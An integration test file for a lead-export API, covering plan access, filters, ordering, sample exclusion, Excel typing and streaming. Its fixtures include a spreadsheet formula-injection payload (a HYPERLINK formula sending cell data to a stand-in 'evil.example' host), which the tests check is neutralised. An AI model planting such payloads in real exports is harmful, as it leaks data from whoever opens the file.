/**
 * GET /api/leads/export over real HTTP on a real database (docs/decisions/0026): who may export,
 * bad queries, the list's filters and order, sample leads left out and counted, another user's
 * leads never in the file, formula injection neutralised, the workbook's typed cells, 1,200 leads
 * over several pages in the list's order, and parallel exports.
 */
import http from 'node:http'
import { EXPORT_MESSAGES, SKIPPED_SAMPLE_HEADER } from '@common/contracts/lead-export'
import type { LeadView } from '@common/contracts/lead-view'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { leads } from '../../db/schema'
import { tierFields } from '../../testing/factories'
import { createTestClient, type TestClient } from '../../testing/http-client'
import { exportCsv, exportPath, exportXlsx } from '../../testing/lead-export-test-helpers'
import { allPages, buildLead, listLeads, patchLead } from '../../testing/leads-test-helpers'
import { signInNewUser } from '../../testing/signed-in'
import { buildTestApp, type TestApp } from '../../testing/test-app'

let t: TestApp
let pro: { client: TestClient; user: { id: string } }

beforeAll(async () => {
  t = await buildTestApp()
  pro = await signInNewUser(t, tierFields('pro'))
  const own = (fields: Parameters<typeof buildLead>[1]) => buildLead(t, fields)
  const userId = pro.user.id
  const hot = await own({
    userId,
    defendantName: 'Ana Hotline',
    tags: ['hot'],
    status: 'contacted',
    caseNumber: '2026-CA-0001',
    filingDate: '2026-02-01',
    saleDate: '2026-06-10',
    saleStatus: 'postponed',
    amountKind: 'judgment',
    loanAmount: '123456.78',
    folder: 'Miami',
    court: 'Miami-Dade Circuit Court',
    documentUrl: 'https://clerk.example.gov/docs/1',
  })
  await own({ userId, defendantName: 'Ben Cold', caseNumber: '2026-CA-0002' })
  await own({
    userId,
    defendantName: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    propertyAddress: '+1 Formula Way',
    caseNumber: '-2+3',
    plaintiffName: '@SUM(1,2)',
    city: 'Comma, "Quoted"\nTown',
  })
  await own({ userId, defendantName: 'Sam Sample', isSample: true, tags: ['hot'] })
  await own({ userId, defendantName: 'Sid Sample', isSample: true })
  const note = await patchLead(pro.client, hot.id, { note: 'First call: no answer.' })
  expect(note.status).toBe(200)
  await patchLead(pro.client, hot.id, { note: 'Owner called back; wants an offer.' })
  const stranger = await signInNewUser(t, tierFields('pro'))
  await buildLead(t, { userId: stranger.user.id, defendantName: 'Stranger Danger', tags: ['hot'] })
})
afterAll(() => t.close())

describe('who may export', () => {
  it.each(['trial', 'basic'] as const)('refuses %s with 403 EXPORT_NOT_IN_PLAN', async (tier) => {
    const { client } = await signInNewUser(t, tierFields(tier))
    for (const format of ['csv', 'xlsx']) {
      const response = await client.get(exportPath({ format }))
      expect(response.status).toBe(403)
      expect(await response.json()).toEqual({
        code: 'EXPORT_NOT_IN_PLAN',
        message: EXPORT_MESSAGES.notInPlan,
      })
    }
  })

  it('refuses a lapsed Pro subscription, and asks a signed-out visitor to log in', async () => {
    const { client } = await signInNewUser(t, {
      ...tierFields('pro'),
      subscriptionStatus: 'cancelled',
    })
    expect((await client.get(exportPath({ format: 'csv' }))).status).toBe(403)
    const anonymous = createTestClient(t.baseUrl)
    expect((await anonymous.get(exportPath({ format: 'csv' }))).status).toBe(401)
  })

  it.each(['pro', 'premium', 'elite'] as const)('lets %s export', async (tier) => {
    // premium: the catalogue's unsold tier (no card), as billing would leave it.
    const { client } = await signInNewUser(t, { ...tierFields('elite'), subscriptionTier: tier })
    const { records, response } = await exportCsv(client)
    expect(response.status).toBe(200)
    expect(records).toEqual([])
  })
})

describe('bad queries', () => {
  it.each([
    [{}, 'format'],
    [{ format: 'pdf' }, 'format'],
    [{ format: 'csv', zip: 'abc' }, 'zip'],
    [{ format: 'csv', status: 'sleeping' }, 'status'],
    [{ format: 'xlsx', filedFrom: '2026-05-01', filedTo: '2026-01-01' }, 'filedTo'],
    [{ format: 'csv', sort: 'name' }, 'sort'],
    [{ format: 'csv', minUrgency: 'high' }, 'minUrgency'],
  ])('answers %j with 400 naming %s', async (query, field) => {
    const response = await pro.client.get(exportPath(query as Record<string, string>))
    expect(response.status).toBe(400)
    const body = await response.json()
    expect(body.code).toBe('VALIDATION_FAILED')
    const paths: string[] = body.fields.map((f: { path: string }) => f.path)
    expect(paths.some((path) => path === field || path.startsWith(`${field}.`))).toBe(true)
  })
})

describe('the CSV file', () => {
  it('holds the real leads in the list order, leaves samples out and says how many', async () => {
    const { response, records, headers, bytes } = await exportCsv(pro.client)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    expect(response.headers.get(SKIPPED_SAMPLE_HEADER)).toBe('2')
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    // A Pro plan has contact details: their columns are there (empty: nothing traced).
    expect(headers).toContain('Phone 1')
    const names = records.map((r) => r.Defendants)
    expect(names).toHaveLength(3)
    expect(names).not.toContain('Sam Sample')
    expect(names).not.toContain('Stranger Danger')
    const { ids } = await allPages(pro.client, { limit: 200 })
    expect(records.map((r) => r['Lead ID'])).toEqual(
      ids.filter((id) => records.some((r) => r['Lead ID'] === id)),
    )
    expect(records.map((r) => r['No.'])).toEqual(['1', '2', '3'])
  })

  it('applies the filters of the list: tag, status, free text', async () => {
    const tagged = await exportCsv(pro.client, { tag: 'hot' })
    expect(tagged.records.map((r) => r.Defendants)).toEqual(['Ana Hotline'])
    expect(tagged.response.headers.get(SKIPPED_SAMPLE_HEADER)).toBe('1')
    const ana = tagged.records[0]
    expect(ana).toMatchObject({
      Status: 'Contacted',
      'Case number': '2026-CA-0001',
      'Filing date': '2026-02-01',
      'Sale date': '2026-06-10',
      'Sale status': 'Sale postponed',
      Amount: '123456.78',
      'Amount kind': 'Judgment amount',
      Tags: 'hot',
      Folder: 'Miami',
      Court: 'Miami-Dade Circuit Court',
      Notes: '2',
      'Last note': 'Owner called back; wants an offer.',
      Source: 'Public record',
      'Document link': 'https://clerk.example.gov/docs/1',
      // Its record is not in the index here: no list or times, and not stale (0078).
      Stale: 'no',
      'Last checked (UTC)': '',
      ZIP: '33130',
      State: 'FL',
      County: 'Miami-Dade',
    })
    expect(ana?.['Updated (UTC)']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)
    // Its urgency as its view shows it (issue 35): the score, and its reasons in one sentence.
    const [view] = (await listLeads(pro.client, { tag: 'hot' })).body.leads as LeadView[]
    expect(ana?.Urgency).toBe(String(view?.urgency.score))
    expect(ana?.['Urgency reasons']).toBe(view?.urgency.explanation)
    expect(ana?.['Urgency reasons']).toMatch(/; Stage: .*; equity unknown; no phone/)
    const news = await exportCsv(pro.client, { status: 'new', q: 'cold' })
    expect(news.records.map((r) => r.Defendants)).toEqual(['Ben Cold'])
    const none = await exportCsv(pro.client, { zip: '99999' })
    expect(none.records).toEqual([])
    expect(none.response.headers.get(SKIPPED_SAMPLE_HEADER)).toBe('0')
  })

  it('neutralises cells a spreadsheet would run as formulas, and quotes the rest right', async () => {
    const { records } = await exportCsv(pro.client, { q: 'Formula' })
    expect(records).toHaveLength(1)
    expect(records[0]).toMatchObject({
      Defendants: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
      'Property address': "'+1 Formula Way",
      'Case number': "'-2+3",
      Plaintiff: "'@SUM(1,2)",
      City: 'Comma, "Quoted"\nTown',
    })
  })
})

describe('the Excel file', () => {
  it('holds the same leads with typed numbers and dates, and text never as a formula', async () => {
    const { response, records, headers, sheet } = await exportXlsx(pro.client)
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    expect(response.headers.get('content-disposition')).toMatch(/filename="leads-.*\.xlsx"$/)
    expect(response.headers.get(SKIPPED_SAMPLE_HEADER)).toBe('2')
    const csv = await exportCsv(pro.client)
    expect(headers).toEqual(csv.headers)
    expect(records.map((r) => r['Lead ID'])).toEqual(csv.records.map((r) => r['Lead ID']))
    const ana = records.find((r) => r.Defendants === 'Ana Hotline')
    expect(ana?.Amount).toBe(123456.78)
    expect(ana?.['Filing date']).toEqual(new Date('2026-02-01T00:00:00Z'))
    expect(ana?.Notes).toBe(2)
    expect(ana?.Urgency).toBeTypeOf('number')
    const evil = records.find((r) => String(r.Defendants).includes('HYPERLINK'))
    expect(evil?.Defendants).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`)
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(6 /* ExcelJS.ValueType.Formula */)),
    )
  })
})

describe('many leads', () => {
  it('streams 1,200 leads over several pages in the list order, and 10 exports at once', async () => {
    const { client, user } = await signInNewUser(t, tierFields('elite'))
    const rows = Array.from({ length: 1200 }, (_, i) => ({
      userId: user.id,
      sourceKind: 'search_result',
      resultId: crypto.randomUUID(),
      dedupeKey: `bulk:${i}`,
      defendantName: `Owner ${i}`,
      zipCode: i % 3 ? '43215' : '33130',
      filingDate: i % 7 ? `2026-01-${String((i % 28) + 1).padStart(2, '0')}` : null,
      isSample: i % 100 === 0,
    }))
    await t.database.db.insert(leads).values(rows)
    const query = { sort: 'filingDate', order: 'asc', group: 'zip' }
    const { ids } = await allPages(client, { ...query, limit: 200 })
    const real = new Set(rows.filter((r) => !r.isSample).map((r) => r.defendantName))

    const exports = await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        i % 2 ? exportXlsx(client, query) : exportCsv(client, query),
      ),
    )
    for (const file of exports) {
      expect(file.response.headers.get(SKIPPED_SAMPLE_HEADER)).toBe('12')
      expect(file.records).toHaveLength(real.size)
      const exportedIds = file.records.map((r) => String(r['Lead ID']))
      const inListOrder = ids.filter((id) => exportedIds.includes(id))
      expect(exportedIds).toEqual(inListOrder)
      expect(new Set(file.records.map((r) => String(r.Defendants)))).toEqual(real)
    }
  })

  it('stops an export whose download was abandoned, and the server carries on', async () => {
    const { client, user } = await signInNewUser(t, tierFields('pro'))
    await t.database.db.insert(leads).values(
      Array.from({ length: 1500 }, (_, i) => ({
        userId: user.id,
        sourceKind: 'search_result',
        resultId: crypto.randomUUID(),
        dedupeKey: `abandoned:${i}`,
        defendantName: `Owner ${i} ${'x'.repeat(1000)}`,
      })),
    )
    const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
    for (const format of ['csv', 'xlsx']) {
      // The client takes the first bytes and goes away (a closed tab: the socket is destroyed).
      await new Promise<void>((resolve, reject) => {
        const request = http.get(`${t.baseUrl}${exportPath({ format })}`, { headers: { cookie } })
        request.on('response', (response) => {
          expect(response.statusCode).toBe(200)
          response.once('data', () => {
            request.destroy()
            resolve()
          })
        })
        request.on('error', (error) => (request.destroyed ? resolve() : reject(error)))
      })
    }
    // Give the server a moment to notice, then it still answers whole files.
    await new Promise((resolve) => setTimeout(resolve, 500))
    const { records } = await exportCsv(client)
    expect(records).toHaveLength(1500)
  })
})
